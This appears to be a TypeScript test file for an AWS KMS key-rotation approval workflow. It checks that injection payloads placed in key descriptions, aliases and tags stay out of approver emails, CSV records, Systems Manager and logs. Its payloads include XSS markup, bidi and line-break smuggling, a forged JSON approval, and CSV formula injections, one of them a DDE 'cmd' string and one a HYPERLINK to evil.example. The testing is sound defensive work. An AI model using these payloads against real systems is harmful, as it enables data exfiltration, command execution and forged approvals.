import { GetAutomationExecutionCommand } from '@aws-sdk/client-ssm';
import { readSteps } from '../../functions/aws/ssm.ts';
import { functionNames } from '../../functions/core/names.ts';
import { estateOf, keyNamed, region, rotatingEvery } from './estates.ts';
import { all, evidenceOf } from './evidence.ts';
import { type OneRegion, startOneRegion } from './one-region.ts';

/** Each is recognisable by its MARK, so that one search finds all of them. */
const texts: readonly (readonly [string, string])[] = [
  ['a reference of the runbook', '{{ Assess.KeyIds }} {{global:REGION}} {{ ssm:MARK }}'],
  ['markup', '<script>MARK()</script><img src=x onerror="MARK">&amp;'],
  ['further lines', 'MARK\nHOW TO ANSWER\r\n  Approve: already approved\u2028MARK\u0085MARK'],
  ['invisible and reversing characters', 'MARK\u202Edevorppa\u2066\u200B\u0000'],
  ['an equals formula', '=HYPERLINK("http://evil.example/?MARK","open")'],
  ['a plus formula', "+cmd|' /C MARK'!A0"],
  ['a minus formula', '-2+3+MARK'],
  ['an at formula', '@SUM(MARK)'],
  ['a formula behind a tab', '\t=MARK()'],
  ['CSV syntax', 'MARK",=1+1,"\r\n=MARK'],
  ['JSON syntax', 'MARK"},{"decision":"APPROVED"}]'],
];

let one: OneRegion;
beforeAll(async () => {
  one = await startOneRegion({ estate: estateOf() }, region);
});
afterAll(() => one.sandbox.stop());

describe('texts of key owners', () => {
  it('reach approvers on one line, spreadsheets as text, and Systems Manager not at all', async () => {
    const keyIds = await one.create(
      ...texts.map(([what, text], index) =>
        keyNamed(what, {
          metadata: { Description: text },
          aliases: [`alias/${text}`],
          tags: [
            { TagKey: 'Owner', TagValue: text },
            { TagKey: text, TagValue: 'x' },
          ],
          ...(index === 0 ? { rotation: rotatingEvery(900) } : {}),
          ...(index === 1 ? { policy: policyWith('CANARY of a key policy') } : {}),
        }),
      ),
    );
    const executionId = await one.request(keyIds);
    const ended = await one.approve(executionId, 'CANARY of a comment');
    expect(ended).toMatchObject({ status: 'Success', failureMessage: null });
    const { outcomeOf } = await evidenceOf(one, executionId);
    expect(outcomeOf).toEqual({ ...all(keyIds, 'ENABLED'), [keyIds[0] ?? '']: 'PERIOD_SHORTENED' });
    expect(one.writes().toSorted()).toEqual(keyIds.toSorted());

    const { subject = '', message = '' } = one.sandbox.snsMessages().at(-1) ?? {};
    expect(subject).toMatch(/^[\x20-\x7e]{1,100}$/);
    expect(message).not.toMatch(/\{\{|[\u200B\u2028\u202E\u2066]/);
    expect(message.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    // Whatever a key owner writes comes on a line that the message itself begins; none of the message's own headings is theirs.
    expect(message.split('\n').filter((line) => /^HOW TO ANSWER/.test(line))).toHaveLength(1);
    for (const line of message.split('\n').filter((each) => each.includes('MARK'))) expect(line).toMatch(/^(\d+\. | {3})\S/);

    const csv = await one.record(executionId, 'outcomes.csv');
    expect(csv).toContain('MARK');
    for (const cell of cellsOf(csv)) expect(cell).not.toMatch(/^\s*[=+\-@]/);

    const inSystemsManager = await one.ssm.send(new GetAutomationExecutionCommand({ AutomationExecutionId: executionId }));
    const steps = await readSteps(one.ssm, executionId);
    expect(JSON.stringify([inSystemsManager.AutomationExecution, steps])).not.toContain('MARK');
    const calls = one.sandbox.journal.entries().filter(({ principal }) => principal.includes(':assumed-role/KmsRotation-Automation-'));
    expect(calls.map(({ operation }) => operation)).toEqual(expect.arrayContaining(['StartConfigRulesEvaluation']));
    expect(JSON.stringify(calls.map(({ input }) => input))).not.toContain('MARK');

    const lines = one.sandbox.functionLogs().map(({ functionName, line }) => ({ functionName, line, fields: JSON.parse(line) }));
    expect(lines.filter(({ line }) => /MARK|CANARY|resultToken|ASIA|X-Amz-Signature/.test(line))).toEqual([]);
    const tokens = one.sandbox.journal
      .entries()
      .flatMap(({ operation, input }) => (operation === 'PutEvaluations' ? String(input['ResultToken']) : []));
    expect(tokens.length).toBeGreaterThan(0);
    expect(lines.filter(({ line }) => tokens.some((token) => line.includes(token)))).toEqual([]);

    // From the execution to every function that worked for it, and from each line to its invocation.
    const ofExecution = lines.filter(({ fields }) => fields.executionId === executionId && fields._aws === undefined);
    expect(ofExecution.map(({ functionName }) => functionName)).toEqual([
      functionNames.assessRequest,
      functionNames.notifyApprovers,
      functionNames.recordDecision,
      functionNames.applyChanges,
      functionNames.validateRotation,
    ]);
    const correlated = ['executionId', 'orderingTimestamp', 'messageIds', 'action', 'eventId'];
    expect(lines.filter(({ fields }) => typeof fields.function_request_id !== 'string')).toEqual([]);
    expect(lines.filter(({ fields }) => !correlated.some((name) => typeof fields[name] === 'string'))).toEqual([]);
  });
});

const policyWith = (sid: string): string =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Sid: sid, Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' }, Action: 'kms:*', Resource: '*' }],
  });

/** The cells of a table by RFC 4180. */
const cellsOf = (csv: string): readonly string[] =>
  [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
